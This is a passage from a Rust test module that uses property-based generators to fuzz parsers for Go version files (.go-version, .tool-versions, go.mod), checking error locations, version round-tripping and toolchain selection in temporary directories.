    /// should not, to reach every branch more often than random text does.
    fn line() -> impl Strategy<Value = String> {
        prop_oneof![
            Just(String::new()),
            Just("go 1.22".to_string()),
            Just("go banana".to_string()),
            Just("toolchain go1.23.1+auto".to_string()),
            Just("toolchain default".to_string()),
            Just("toolchain 1.22".to_string()),
            Just("golang 1.22.5 # pin".to_string()),
            Just("go".to_string()),
            Just("golang".to_string()),
            Just("require (".to_string()),
            Just("\tgo.example/x v1.0.0 // indirect".to_string()),
            Just(")".to_string()),
            Just("// go 1.19".to_string()),
            Just("# 1.21".to_string()),
            Just("latest".to_string()),
            Just("\0".to_string()),
            Just("\r".to_string()),
            Just("\u{feff}go 1.21".to_string()),
            "(go|toolchain|golang) +[a-z0-9.+\\-]{0,12}",
            "[0-9.a-z ]{0,20}",
            "\\PC{0,60}",
            any::<String>(),
            ("[a-z]{0,3}", 0usize..20_000).prop_map(|(s, n)| s.repeat(n)),
        ]
    }

    fn text() -> impl Strategy<Value = String> {
        prop_oneof![
            4 => (
                prop::collection::vec(line(), 0..12),
                prop::collection::vec(prop::sample::select(&["\n", "\r\n", "\r", ""][..]), 12),
            )
                .prop_map(|(lines, ends)| {
                    lines.iter().zip(ends).map(|(l, e)| format!("{l}{e}")).collect()
                }),
            1 => any::<String>(),
        ]
    }

    fn origin() -> impl Strategy<Value = PathBuf> {
        prop_oneof![
            Just(PathBuf::from("/p/.go-version")),
            "/[a-z é:]{1,10}/go\\.mod".prop_map(PathBuf::from),
        ]
    }

    fn check_error(e: &SelectError, text: &str, origin: &Path) -> Result<(), TestCaseError> {
        let shown = e.to_string();
        prop_assert!(
            shown.starts_with(&format!("{}:", origin.display())),
            "{shown:?} does not name {origin:?}"
        );
        prop_assert_eq!(&e.origin, &origin.display().to_string());
        if let Some(line) = e.line {
            prop_assert!(
                line >= 1 && line <= text.lines().count(),
                "line {line} in {text:?}"
            );
            let prefix = format!("{}:{line}: ", origin.display());
            prop_assert!(shown.starts_with(&prefix), "{shown:?}");
        }
        Ok(())
    }

    /// A request that prints and re-parses to itself.
    fn round_trips(request: &VersionRequest) -> bool {
        VersionRequest::parse(&request.to_string()).as_ref() == Ok(request)
    }

    fn requirement_round_trips(requirement: &Requirement) -> bool {
        match requirement {
            Requirement::Request(r) => round_trips(r),
            Requirement::FirstInstalled(list) => list.iter().all(round_trips),
            Requirement::AtLeast(min) => Minimum::parse(&min.to_string()).as_ref() == Ok(min),
        }
    }

    /// A `go` line's version as written, and what it means.
    fn go_version() -> impl Strategy<Value = (String, GoVersion)> {
        (
            1u32..40,
            prop::option::of(0u32..30),
            prop::option::of(1u32..20),
        )
            .prop_map(|(minor, patch, rc)| {
                let mut text = format!("1.{minor}");
                if let Some(patch) = patch {
                    text.push_str(&format!(".{patch}"));
                }
                if let Some(rc) = rc {
                    text.push_str(&format!("rc{rc}"));
                }
                let version = GoVersion {
                    major: 1,
                    minor,
                    patch: patch.unwrap_or(0),
                    pre: rc.map(crate::version::PreRelease::Rc),
                };
                (text, version)
            })
    }

    /// Lines a valid go.mod holds besides `go` and `toolchain`.
    fn other_go_mod_lines() -> impl Strategy<Value = Vec<String>> {
        let module = "[a-z]{1,8}\\.(com|org)/[a-z]{1,8}";
        let version = "v[0-9]{1,2}\\.[0-9]{1,2}\\.[0-9]{1,2}";
        let stanza = prop_oneof![
            Just(vec![String::new()]),
            "// [ -~]{0,30}".prop_map(|c| vec![c]),
            (module, version).prop_map(|(m, v)| vec![format!("require {m} {v}")]),
            (module, version).prop_map(|(m, v)| vec![format!("require {m} {v} // indirect")]),
            (module, version).prop_map(|(m, v)| vec![format!("exclude {m} {v}")]),
            (module, module).prop_map(|(a, b)| vec![format!("replace {a} => {b} v1.0.0")]),
            Just(vec!["godebug default=go1.21".to_string()]),
            Just(vec!["retract v1.0.0 // broken".to_string()]),
            prop::collection::vec((module, version), 0..4).prop_map(|reqs| {
                let mut lines = vec!["require (".to_string()];
                lines.extend(reqs.into_iter().map(|(m, v)| format!("\t{m} {v}")));
                lines.push(")".to_string());
                lines
            }),
        ];
        prop::collection::vec(stanza, 0..8).prop_map(|s| s.concat())
    }

    /// Found by `select_never_panics_and_returns_round_tripping_versions`:
    /// `go0` in `.go-version` selected a version printed as the `0.0` line.
    #[test]
    fn go0_selects_a_version_that_round_trips() {
        let file = parse_go_version_file("\ngo0\n", Path::new(".go-version"))
            .unwrap()
            .unwrap();
        assert!(round_trips(&file.request), "{file:?}");
    }

    proptest! {
        #[test]
        fn file_parsers_never_panic_and_name_file_and_line(text in text(), origin in origin()) {
            match parse_go_version_file(&text, &origin) {
                Ok(Some(file)) => {
                    prop_assert!(round_trips(&file.request), "{file:?}");
                    for (line, _) in &file.ignored {
                        prop_assert!(*line >= 1 && *line <= text.lines().count());
                    }
                }
                Ok(None) => {}
                Err(e) => check_error(&e, &text, &origin)?,
            }
            match parse_tool_versions(&text, &origin) {
                Ok(Some(requirement)) => {
                    prop_assert!(requirement_round_trips(&requirement), "{requirement:?}");
                }
                Ok(None) => {}
                Err(e) => check_error(&e, &text, &origin)?,
            }
            match parse_go_mod(&text, &origin) {
                Ok(module) => {
                    if let Some(requirement) = module.requirement() {
                        prop_assert!(requirement_round_trips(&requirement), "{requirement:?}");
                    }
                }
                Err(e) => check_error(&e, &text, &origin)?,
            }
        }

        #[test]
        fn go_mod_yields_exactly_its_requirement(
            module in "[a-z]{1,8}\\.com/[a-z]{1,8}",
            body in other_go_mod_lines(),
            go in prop::option::of((go_version(), any::<prop::sample::Index>(), any::<bool>())),
            toolchain in prop::option::of((
                go_version(),
                any::<prop::sample::Index>(),
                prop::sample::select(&["", "+auto", "-custom"][..]),
            )),
            default_toolchain in prop::option::of(any::<prop::sample::Index>()),
            crlf in any::<bool>(),
            indent in "[ \t]{0,2}",
        ) {
            let mut lines = vec![format!("module {module}")];
            lines.extend(body);
            let mut insert = |at: prop::sample::Index, line: String| {
                let at = 1 + at.index(lines.len());
                lines.insert(at, line);
            };
            if let Some(at) = default_toolchain {
                insert(at, "toolchain default".to_string());
            }
            if let Some(((text, _), at, comment)) = &go {
                let comment = if *comment { " // the minimum" } else { "" };
                insert(*at, format!("{indent}go {text}{comment}"));
            }
            if let Some(((text, _), at, suffix)) = &toolchain {
                insert(*at, format!("toolchain go{text}{suffix}"));
            }
            let end = if crlf { "\r\n" } else { "\n" };
            let text: String = lines.iter().map(|l| format!("{l}{end}")).collect();
            let minimum = go.as_ref().map(|((text, _), _, _)| Minimum::parse(text).unwrap());
            // A toolchain line older than the go line is ignored, as Go ignores it.
            let toolchain = toolchain
                .as_ref()
                .map(|((_, v), _, _)| *v)
                .filter(|v| minimum.is_none_or(|m| m.admits(v)));
            let expected = match (toolchain, minimum) {
                (Some(v), _) => Some(Requirement::Request(VersionRequest::Exact(v))),
                (None, Some(min)) => Some(Requirement::AtLeast(min)),
                (None, None) => None,
            };
            let parsed = parse_go_mod(&text, Path::new("go.mod")).map(|m| m.requirement());
            prop_assert_eq!(parsed, Ok(expected), "{}", text);
        }

        #[test]
        fn select_never_panics_and_returns_round_tripping_versions(
            content in prop_oneof![
                text(),
                (prop::option::of("# [ -~]{0,20}"), "\\s{0,3}", "(go)?[0-9]{1,2}(\\.[0-9]{1,2}){0,2}((rc|beta)[0-9]{1,2})?|latest", "\\s{0,3}")
                    .prop_map(|(c, a, v, b)| format!("{}\n{a}{v}{b}\n", c.unwrap_or_default())),
            ],
            nested in any::<bool>(),
            go_mod in prop::option::of(text()),
        ) {
            let tree = TempTree::new();
            let dir = if nested { tree.0.join("a/b") } else { tree.0.clone() };
            std::fs::create_dir_all(&dir).unwrap();
            std::fs::write(tree.0.join(GO_VERSION_FILE), &content).unwrap();
            if let Some(go_mod) = go_mod {
                std::fs::write(dir.join("go.mod"), go_mod).unwrap();
            }
            let inputs = Inputs { gowork: Some("off".into()), ..Inputs::default() };
            match select(&dir, &inputs) {
                Ok(Some(selection)) => {
                    prop_assert!(requirement_round_trips(&selection.requirement), "{selection:?}");
                    // The .go-version decides, unless it is skipped (blank or
                    // comment-only): then the go.mod below it does.
                    let skipped = matches!(
                        parse_go_version_file(&content, Path::new(GO_VERSION_FILE)),
                        Ok(None)
                    );
                    let decider = if skipped { dir.join("go.mod") } else { tree.0.join(GO_VERSION_FILE) };
                    prop_assert_eq!(selection.source, Source::File(decider));
                }
                // Only an empty or comment-only file is skipped.
                Ok(None) => prop_assert_eq!(
                    parse_go_version_file(&content, Path::new(GO_VERSION_FILE)),
                    Ok(None),
                    "a .go-version with a version exists, yet nothing was selected"
                ),
                // A skipped (empty) .go-version leaves go.mod to decide.
                Err(e) => prop_assert!(
                    e.origin.ends_with(GO_VERSION_FILE) || e.origin.ends_with("go.mod"),
                    "{e}"
                ),
            }
        }
    }

    /// A fresh directory under the system temp dir, removed on drop (the shim
    /// crate stays free of non-test dependencies; this keeps its tests so too).
    struct TempTree(PathBuf);

    impl TempTree {
        fn new() -> TempTree {
            use std::sync::atomic::{AtomicUsize, Ordering};
            static N: AtomicUsize = AtomicUsize::new(0);
            let dir = std::env::temp_dir().join(format!(
                "gvmr-select-fuzz-{}-{}",
                std::process::id(),
                N.fetch_add(1, Ordering::SeqCst)
            ));
            let _ = std::fs::remove_dir_all(&dir);
            std::fs::create_dir_all(&dir).unwrap();
            TempTree(dir)
        }
    }

    impl Drop for TempTree {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
        }
    }
}
